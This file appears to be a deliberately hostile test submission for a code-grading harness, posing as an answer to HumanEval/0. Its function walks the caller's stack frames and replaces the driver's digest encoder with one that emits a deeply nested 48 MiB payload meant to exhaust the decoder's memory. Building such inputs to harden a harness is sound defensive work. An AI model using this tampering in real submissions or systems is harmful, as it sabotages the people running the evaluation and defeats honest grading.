# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: HumanEval/0
# class: outputs
# Swaps the driver's encoder (found in its caller's globals) for one that gives the first
# output as 48 MiB of lists nested 99 deep, unsealed: about 25 million lists, 5 GB if
# trusted code decoded them. Without that encoder it returns a wrong answer.
import sys

_CHAIN = "[" * 99 + "]" * 99
_TEXT = "[" + ",".join([_CHAIN] * ((48 << 20) // (len(_CHAIN) + 1))) + "]"
_done = [False]


def _swap(names, name, original):
    def encode(value, digest_above=None):
        names[name] = original
        return _TEXT, None
    names[name] = encode


def has_close_elements(numbers, threshold):
    frame = sys._getframe(1)
    while frame is not None and not _done[0]:
        for name, value in list(frame.f_globals.items()):
            if callable(value) and "wire" in name and "digest" in name:
                _swap(frame.f_globals, name, value)
                _done[0] = True
        frame = frame.f_back
    return False
